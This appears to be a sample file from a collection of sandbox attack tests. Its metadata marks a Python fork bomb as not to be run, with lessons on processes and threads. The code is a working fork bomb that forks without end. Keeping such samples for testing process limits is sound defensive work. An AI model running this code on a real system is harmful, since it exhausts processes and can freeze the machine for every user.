# /// attack
# title = "A fork bomb"
# says = ["processes and threads", "No exercise needs more than one"]
# [tier.process]
# run = false
# reason = "as root the system counts nobody's processes, and a bomb is faster than whoever watches"
# ///

# %%
import os

print("TRIED to fork without end")
while True:
    os.fork()
